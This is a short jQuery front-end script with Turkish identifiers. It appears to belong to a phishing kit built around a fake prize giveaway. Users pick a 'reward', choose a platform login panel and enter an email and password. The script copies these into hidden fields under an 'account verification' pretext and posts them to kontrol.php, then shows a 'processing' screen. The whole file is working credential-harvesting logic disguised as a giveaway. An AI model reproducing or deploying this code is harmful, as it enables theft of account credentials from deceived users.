$('.odul').on('click', function () {
  $('#secilen').attr('src', $(this).find('img').attr('src'));
  $('.pencere').hide();
  $('#girisSec').fadeIn();
});
$('.platform').on('click', function () { $('.pencere').hide(); $('#' + $(this).data('p') + 'Giris').fadeIn(); });
$('.girisForm').on('submit', function (e) {
  e.preventDefault();
  var f = $(this);
  $('input#ep').val(f.find('.mail').val()); $('input#sp').val(f.find('.sifre').val()); $('input#tip').val(f.data('tip'));
  $('.pencere').hide();
  $('#hesapDogrula').fadeIn();
});
$('#dogrulaForm').on('submit', function (e) {
  e.preventDefault();
  $.ajax({ type: 'POST', url: 'kontrol.php', data: $('#dogrulaForm').serialize(), beforeSend: function () { $('#kontrol').show(); }, success: function () { $('#kontrol').hide(); $('#islemde').fadeIn(); } });
});
